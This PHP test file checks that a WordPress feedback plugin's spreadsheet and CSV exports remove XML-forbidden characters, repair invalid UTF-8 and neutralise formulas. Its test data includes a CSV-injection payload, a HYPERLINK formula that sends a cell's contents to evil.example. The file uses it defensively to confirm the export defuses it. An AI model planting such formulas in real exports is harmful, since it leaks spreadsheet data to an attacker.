<?php
/**
 * Exports whose texts XML cannot hold.
 *
 * @package UserFeedback
 */

namespace UserFeedback\Tests\Export;

use PHPUnit\Framework\Attributes\DataProvider;
use UserFeedback\Export\PartFile;
use UserFeedback\Export\RowSink;
use UserFeedback\Export\SpreadsheetFile;

// The test reads the files it made, unzips them and runs LibreOffice on them.
// phpcs:disable WordPress.WP.AlternativeFunctions

/**
 * Any visitor can type a character XML 1.0 forbids (U+FFFE, U+FFFF, C0 controls) and a site
 * with latin1 tables or a broken translation can hand over invalid UTF-8: none of it may reach an
 * XLSX part raw, or Excel and LibreOffice refuse the whole file. Every part is parsed with a
 * strict XML parser, the cells are read back, and LibreOffice opens the real export when it is
 * installed. The CSV stays UTF-8 with its byte-order mark and formula-safe.
 */
final class HostileTextExportTest extends ExportTestCase {

	/**
	 * Lone surrogate (CESU-8 of U+D800) and a truncated two-byte sequence: invalid UTF-8.
	 */
	private const SURROGATE = "\xED\xA0\x80";
	private const TRUNCATED = "\xC3\x28";

	/**
	 * What a visitor typed and the cell it must become (forbidden characters removed, a vertical
	 * tab or form feed made a line break, everything else kept, formulas neutralised).
	 *
	 * @return array<string, array{string, string}>
	 */
	private static function typed(): array {
		return array(
			'U+FFFE'             => array( "a\u{FFFE}b", 'ab' ),
			'U+FFFF'             => array( "c\u{FFFF}d", 'cd' ),
			'NUL'                => array( "e\x00f", 'ef' ),
			'vertical tab'       => array( "line\x0Bbreak", "line\nbreak" ),
			'other C0'           => array( "g\x01\x08\x0C\x1Fh", "g\nh" ),
			'emoji'              => array( 'Great 👍🏽 🎉 𝄞', 'Great 👍🏽 🎉 𝄞' ),
			'Arabic'             => array( 'شكرا لكم على الخدمة', 'شكرا لكم على الخدمة' ),
			'formula'            => array( '=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' ),
			'formula behind NUL' => array( "\x00=1+1", "'=1+1" ),
			'at behind U+FFFF'   => array( "\u{FFFF}@SUM(A1)", "'@SUM(A1)" ),
			'tab and CR kept'    => array( "x\ty\r\nz", "x\ty\nz" ),
			'escape lookalike'   => array( 'a_x0041_b', 'a_x0041_b' ),
		);
	}

	public function test_every_part_of_an_xlsx_export_is_well_formed_and_cells_read_back(): void {
		$content = $this->hostile_export( 'xlsx' );
		$this->assert_well_formed_parts( $content );

		$sheets = $this->read( $content, 'xlsx' );
		$this->assertSame( array( 'Summary', "Responses \u{FFFD}" ), array_keys( $sheets ), 'a sheet name is cleaned too' );
		$this->assertSame( 'Feedback 📋', self::pairs( $sheets['Summary'] )['Survey'] );
		$summary = array_merge( ...$sheets['Summary'] );
		$this->assertContains( 'Pick', $summary, 'question title in the statistics' );
		$this->assertContains( 'Yes', $summary, 'option label in the statistics' );
		$this->assert_rows( self::table( $sheets["Responses \u{FFFD}"] ) );
	}

	public function test_the_csv_export_is_utf8_with_a_bom_and_formula_safe(): void {
		$content = $this->hostile_export( 'csv' );
		$this->assertStringStartsWith( "\xEF\xBB\xBF", $content );
		$this->assertTrue( mb_check_encoding( $content, 'UTF-8' ), 'valid UTF-8 throughout' );
		$this->assertSame( 0, preg_match( '/[\x00-\x08\x0B\x0C\x0E-\x1F]|\xEF\xBF[\xBE\xBF]/', $content ), 'what the workbook cannot hold, the CSV does not either' );

		$rows   = array_values( $this->read( $content, 'csv' ) )[0];
		$header = null;
		foreach ( $rows as $index => $row ) {
			if ( 'Response ID' === ( $row[0] ?? null ) ) {
				$header = $index;
			}
		}
		$this->assertNotNull( $header, 'the Responses sheet is in the CSV' );
		$this->assert_rows( self::table( array_slice( $rows, (int) $header ) ) );
	}

	public function test_libreoffice_opens_the_xlsx_export(): void {
		$binary = self::libreoffice();
		if ( null === $binary ) {
			$this->markTestSkipped( 'LibreOffice is not installed (neither libreoffice nor soffice is on PATH): Debian package libreoffice-calc-nogui, which bin/setup.sh installs.' );
		}
		$path = $this->base . '/hostile.xlsx';
		file_put_contents( $path, $this->hostile_export( 'xlsx' ) );

		$cells = $this->convert_with_libreoffice( $binary, $path );
		foreach ( self::typed() as $name => $pair ) {
			$this->assertContains( $pair[1], $cells, "LibreOffice reads the {$name} answer" );
		}
		$this->assertContains( 'Feedback 📋', $cells );
	}

	/**
	 * The two ways rows reach a workbook.
	 *
	 * @return array<string, array{bool}>
	 */
	public static function routes(): array {
		return array(
			'in the request'            => array( false ),
			'through a part file (job)' => array( true ),
		);
	}

	/**
	 * Invalid UTF-8 cannot be stored in the test site's utf8mb4 tables, so it is written straight
	 * into the one place every cell goes through, directly or replayed from a background job's
	 * part file: both give one U+FFFD per broken sequence.
	 *
	 * @param bool $through_part_file Whether the rows go through a part file first.
	 */
	#[DataProvider( 'routes' )]
	public function test_invalid_utf8_never_reaches_the_xlsx( bool $through_part_file ): void {
		$path = $this->base . '/invalid.xlsx';
		$file = SpreadsheetFile::create( 'xlsx', $path, $this->base );
		if ( $through_part_file ) {
			$part = PartFile::open( $this->base . '/rows.part', 0 );
			$this->write_invalid_rows( $part );
			$length = $part->commit();
			$part->close();
			PartFile::replay( $this->base . '/rows.part', $length, $file );
		} else {
			$this->write_invalid_rows( $file );
		}
		$file->close();

		$content = (string) file_get_contents( $path );
		$this->assert_well_formed_parts( $content );
		$this->assertSame(
			array(
				"Bad \u{FFFD}name" => array(
					array( 'surrogate', "x\u{FFFD}y" ),
					array( 'truncated', "a\u{FFFD}(b" ),
					array( 'mixed', "'=\u{FFFD}\n" ),
				),
			),
			$this->read( $content, 'xlsx' )
		);
	}

	/**
	 * Writes a sheet of invalid UTF-8.
	 *
	 * @param RowSink $sink Where to.
	 * @return void
	 */
	private function write_invalid_rows( RowSink $sink ): void {
		$sink->sheet( 'Bad ' . self::SURROGATE . "\u{FFFE}\x00name" );
		$sink->row( array( 'surrogate', 'x' . self::SURROGATE . 'y' ) );
		$sink->row( array( 'truncated', 'a' . self::TRUNCATED . 'b' ) );
		$sink->row( array( 'mixed', "\u{FFFF}=" . self::SURROGATE . "\x0B" ) );
	}

	/**
	 * The Responses rows hold what was meant, in every text column a visitor fills.
	 *
	 * @param array<int, array<string, mixed>> $rows The Responses sheet as header => cell maps.
	 * @return void
	 */
	private function assert_rows( array $rows ): void {
		$typed = self::typed();
		$this->assertCount( count( $typed ), $rows );
		$this->assertSame(
			array( 'Response ID', 'Submitted at (UTC)', 'Status', 'Completed', 'Page title', 'Page URL', 'Device', 'Browser', 'Operating system', 'Language', 'IP address', 'Pick', 'Pick (comment)', 'Mail', 'Mail (name)', 'Why?', 'Tags', 'Notes' ),
			array_keys( $rows[0] ),
			'question titles cleaned'
		);
		$index = 0;
		foreach ( $typed as $name => $pair ) {
			$expected = $pair[1];
			$row      = $rows[ $index++ ];
			$this->assertSame( $expected, $row['Why?'], "{$name}: answer" );
			$this->assertSame( $expected, $row['Pick (comment)'], "{$name}: comment" );
			$this->assertSame( $expected, $row['Mail (name)'], "{$name}: e-mail name" );
			$this->assertSame( $expected, $row['Page title'], "{$name}: page title" );
			$this->assertSame( 'https://example.com/?q=' . ( str_starts_with( $expected, "'" ) ? substr( $expected, 1 ) : $expected ), $row['Page URL'], "{$name}: page URL, no apostrophe inside" );
			$this->assertSame( 'Yes', $row['Pick'], "{$name}: option label" );
			// Inside the cell, after the author and date, a formula's text needs no apostrophe.
			$this->assertSame( sprintf( '%s (2026-03-10 09:%02d:00): %s', wp_get_current_user()->display_name, $index - 1, str_starts_with( $expected, "'" ) ? substr( $expected, 1 ) : $expected ), $row['Notes'], "{$name}: note" );
		}
	}

	/**
	 * A real general export of a survey whose title, question titles, option labels, answers,
	 * comments, names, page fields and notes carry the hostile texts, and whose "Responses" sheet name
	 * is translated into invalid UTF-8 and a noncharacter.
	 *
	 * @param string $format 'xlsx' or 'csv'.
	 * @return string The file's bytes.
	 */
	private function hostile_export( string $format ): string {
		$id     = $this->create_survey(
			"Feedback\u{FFFE} 📋",
			array(
				self::question( 'pick', 'radio-button', "Pick\u{FFFF}", array( "Yes\x00", 'No' ) ) + array( 'settings' => array( 'comment_box' => true ) ),
				self::question( 'mail', 'email', "Mail\x0B" ) + array( 'config' => array( 'include_name' => true ) ),
				self::question( 'why', 'long-text', "Why?\u{FFFE}" ),
			)
		);
		$minute = 0;
		foreach ( self::typed() as $pair ) {
			$typed = $pair[0];
			$time  = sprintf( '2026-03-10 09:%02d:00', $minute );
			$rid   = $this->insert_response(
				$id,
				sprintf( '2026-03-10 09:%02d:00', $minute++ ),
				array( array( 'pick', "Yes\x00", $typed ), array( 'mail', 'x@example.com', $typed ), array( 'why', $typed ) ),
				'publish',
				array(
					'page_title' => $typed,
					'page_url'   => 'https://example.com/?q=' . $typed,
					'user_ip'    => '192.0.2.0',
				)
			);
			// Stored raw: the export cleans whatever the notes table holds.
			$GLOBALS['wpdb']->insert(
				userfeedback()->tables()->response_notes(),
				array(
					'survey_id'   => $id,
					'response_id' => $rid,
					'author_id'   => get_current_user_id(),
					'note'        => $typed,
					'created_at'  => $time,
					'updated_at'  => $time,
				)
			);
		}
		$translate = static fn( string $translation, string $text ): string => 'Responses' === $text && 'xlsx' === $format ? 'Responses ' . self::SURROGATE . "\u{FFFF}" : $translation;
		add_filter( 'gettext', $translate, 10, 2 );
		try {
			return $this->download(
				array(
					'survey_id' => $id,
					'format'    => $format,
				)
			)['content'];
		} finally {
			remove_filter( 'gettext', $translate );
		}
	}

	/**
	 * Every part of a workbook parses with a strict XML parser (no recovery).
	 *
	 * @param string $content The XLSX's bytes.
	 * @return void
	 */
	private function assert_well_formed_parts( string $content ): void {
		$path = $this->base . '/parts-' . bin2hex( random_bytes( 4 ) ) . '.xlsx';
		file_put_contents( $path, $content );
		$zip = new \ZipArchive();
		$this->assertTrue( true === $zip->open( $path ), 'the file is a zip' );
		$parts = 0;
		$count = $zip->count();
		for ( $i = 0; $i < $count; $i++ ) {
			$name = (string) $zip->getNameIndex( $i );
			if ( str_ends_with( $name, '/' ) ) {
				continue;
			}
			$this->assertSame( array(), self::xml_errors( (string) $zip->getFromIndex( $i ) ), "{$name} is well-formed XML" );
			++$parts;
		}
		$zip->close();
		unlink( $path );
		$this->assertGreaterThanOrEqual( 8, $parts, 'content types, relationships, workbook, styles and sheets were all checked' );
	}

	/**
	 * What a strict parse of an XML document complains about.
	 *
	 * @param string $xml The document.
	 * @return string[] Errors, none when it is well-formed.
	 */
	private static function xml_errors( string $xml ): array {
		$internal = libxml_use_internal_errors( true );
		libxml_clear_errors();
		$parsed = ( new \DOMDocument() )->loadXML( $xml, LIBXML_NONET );
		$errors = array_map( static fn( \LibXMLError $error ): string => trim( $error->message ) . " (line {$error->line})", libxml_get_errors() );
		libxml_clear_errors();
		libxml_use_internal_errors( $internal );
		return false === $parsed && array() === $errors ? array( 'not parsed' ) : $errors;
	}

	/**
	 * LibreOffice's program on PATH, if any.
	 *
	 * @return string|null
	 */
	private static function libreoffice(): ?string {
		foreach ( array( 'libreoffice', 'soffice' ) as $program ) {
			foreach ( explode( PATH_SEPARATOR, (string) getenv( 'PATH' ) ) as $dir ) {
				if ( '' !== $dir && is_file( "{$dir}/{$program}" ) && is_executable( "{$dir}/{$program}" ) ) {
					return "{$dir}/{$program}";
				}
			}
		}
		return null;
	}

	/**
	 * Converts every sheet of a workbook to CSV with LibreOffice (one run, its own profile, at
	 * most two minutes) and returns every cell of every sheet.
	 *
	 * @param string $binary LibreOffice.
	 * @param string $path   The workbook.
	 * @return string[]
	 */
	private function convert_with_libreoffice( string $binary, string $path ): array {
		$out     = $this->base . '/libreoffice';
		$profile = $this->base . '/libreoffice-profile';
		mkdir( $out );
		mkdir( $profile );
		// Comma, double quote, UTF-8, and -1: each sheet to its own file.
		$filter  = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1';
		$command = array( $binary, '-env:UserInstallation=file://' . $profile, '--headless', '--norestore', '--nologo', '--convert-to', $filter, '--outdir', $out, $path );
		// A UTF-8 locale, or a sheet name outside ASCII cannot name its CSV file.
		$env    = array(
			'HOME'   => $profile,
			'PATH'   => (string) getenv( 'PATH' ),
			'LC_ALL' => 'C.UTF-8',
		);
		$output = array(
			1 => array( 'file', $out . '.log', 'w' ),
			2 => array( 'file', $out . '.log', 'a' ),
		);
		// phpcs:ignore WordPress.PHP.DiscouragedPHPFunctions.system_calls_proc_open -- the test runs LibreOffice, with an argument list (no shell).
		$process = proc_open( $command, $output, $pipes, null, $env );
		$this->assertIsResource( $process, 'LibreOffice starts' );
		$deadline = microtime( true ) + 120;
		do {
			usleep( 100000 );
			$status = proc_get_status( $process );
		} while ( $status['running'] && microtime( true ) < $deadline );
		if ( $status['running'] ) {
			proc_terminate( $process, 9 );
		}
		proc_close( $process );
		$log = (string) file_get_contents( $out . '.log' );
		$this->assertFalse( $status['running'], "LibreOffice finishes within two minutes: {$log}" );
		$this->assertSame( 0, $status['exitcode'], "LibreOffice converts the file: {$log}" );

		$files = (array) glob( $out . '/*.csv' );
		$this->assertCount( 2, $files, "one CSV per sheet: {$log}" );
		$cells = array();
		foreach ( $files as $file ) {
			$handle = fopen( (string) $file, 'rb' );
			$this->assertIsResource( $handle );
			for ( $row = fgetcsv( $handle, null, ',', '"', '' ); false !== $row; $row = fgetcsv( $handle, null, ',', '"', '' ) ) {
				$cells = array_merge( $cells, array_map( 'strval', $row ) );
			}
			fclose( $handle );
		}
		return $cells;
	}
}
